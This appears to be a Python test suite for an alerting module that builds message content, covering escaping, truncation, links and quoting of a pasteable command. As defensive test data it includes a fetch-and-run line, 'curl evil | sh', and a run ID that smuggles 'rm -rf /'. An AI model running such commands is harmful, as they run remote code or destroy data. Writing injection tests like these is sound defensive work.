"""Content of an alert's message, before a channel escapes it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spine.core.errors import ErrorCategory, NetworkError
from spine.framework.alerts import Alert
from spine.framework.alerts.content import MessageKind, build_content, describe_briefly


def alert(**fields):
    return Alert(**{"severity": "ERROR", "title": "t", "message": "m", "source": "s", **fields})


def facts(**fields):
    return dict(build_content(alert(**fields)).facts)


def test_unknown_facts_are_left_out():
    content = build_content(alert())
    assert content.details == (("source", "s"),)
    assert (content.headline, content.message) == ("[ERROR] t", "m")


def test_an_exception_says_its_category_and_whether_to_retry():
    assert facts(error=NetworkError("reset")) == {
        "source": "s",
        "error": "NetworkError: reset",
        "category": "NETWORK",
        "retryable": "yes",
    }
    assert facts(error="known by its text") == {"source": "s", "error": "known by its text"}


def test_an_error_whose_text_begins_with_its_class_is_named_once():
    error = {"error_type": "KeyError", "message": "KeyError: 'price'"}
    assert describe_briefly(error) == "KeyError: 'price'"
    assert describe_briefly({"error_type": "NetworkError", "message": "down"}) == "NetworkError: down"


def test_the_metadata_of_a_failed_run_says_the_same():
    metadata = {"step": "ingest", "error_category": ErrorCategory.PARSE, "retryable": False, "week": 7}
    expected = {"source": "s", "step": "ingest", "category": "PARSE", "retryable": "no", "week": "7"}
    assert facts(metadata=metadata) == expected
    assert facts(metadata=metadata | {"error_category": "PARSE"}) == expected


def test_metadata_does_not_pass_for_another_part_of_the_message():
    hostile = {"source": None, "Error": "none", "look\0 closer": "curl evil | sh", "message": "all is well", "week": 7}
    content = build_content(alert(run_id="r1", error="no file", metadata=hostile))
    assert content.details == (
        ("source", "s"),
        ("run", "r1"),
        ("error", "no file"),
        ("metadata.Error", "none"),
        ("metadata.look closer", "curl evil | sh"),
        ("metadata.message", "all is well"),
        ("week", "7"),
        ("look closer", "spine runs show r1"),
    )


@pytest.mark.parametrize(
    "incident",
    ["INC0010023", {"id": "INC0010023"}, {"resolved_at": "?", "opened_at": "2026", "alert_count": 1}, {}, 7],
)
def test_an_incident_of_the_senders_own_is_a_fact_like_any_other(incident):
    for kind in MessageKind:
        content = build_content(alert(metadata={"incident": incident}), kind=kind)
        assert [label for label, _ in content.facts] == ["source", "incident"]


def test_the_command_to_look_closer_can_be_pasted():
    assert build_content(alert(run_id="r1")).command == "spine runs show r1"
    assert build_content(alert(run_id="r1; rm -rf /")).command == "spine runs show 'r1; rm -rf /'"
    assert build_content(alert(run_id="r1", metadata={"look_closer": "spine x"})).command == "spine x"


def test_a_link_is_there_where_pages_are():
    assert build_content(alert(run_id="r1")).link is None
    assert build_content(alert(), base_url="https://h").link is None
    assert build_content(alert(run_id="a/b?"), base_url="https://h/x/").link == "https://h/x/runs/a%2Fb%3F"
    assert build_content(alert(run_id="r" * 3000), base_url="https://h").link is None


@pytest.mark.parametrize(("count", "headline"), [(12, "[ERROR] t (+ 12 more)"), (0, "[ERROR] t"), ("x", "[ERROR] t")])
def test_an_alert_that_stands_for_others_says_for_how_many(count, headline):
    assert build_content(alert(metadata={"suppressed_count": count})).headline == headline


def test_the_end_says_so():
    assert build_content(alert(), kind=MessageKind.RESOLVED).headline == "[RESOLVED] t"


@given(st.text(), st.text(), st.dictionaries(st.text(), st.text()))
def test_all_is_one_line_but_the_message_and_nothing_controls_a_terminal(text, error, metadata):
    content = build_content(alert(title=text, message=text, run_id=text, error=error, metadata=metadata), base_url="x")
    lines = [content.headline, *content.message.split("\n"), *(part for detail in content.details for part in detail)]
    assert not [line for line in lines if any(ord(c) < 32 or 127 <= ord(c) < 160 or c in "\u2028\u202e" for c in line)]


def test_the_incident_key_is_that_of_the_problem():
    assert alert().incident_key == alert(message="other").incident_key
    assert alert().incident_key != alert(title="other").incident_key
    assert alert(title="\ud800").incident_key.startswith("spine-")
    assert len(alert(title="x" * 1000).incident_key) == 70


def test_a_fact_of_any_length_is_cut_before_it_is_shown() -> None:
    content = build_content(Alert("ERROR", "t", "m", "s", metadata={"cell": "x" * 100_000}))
    shown = dict(content.facts)["cell"]
    assert shown == "x" * 10_000 + "... (90,000 more characters)"
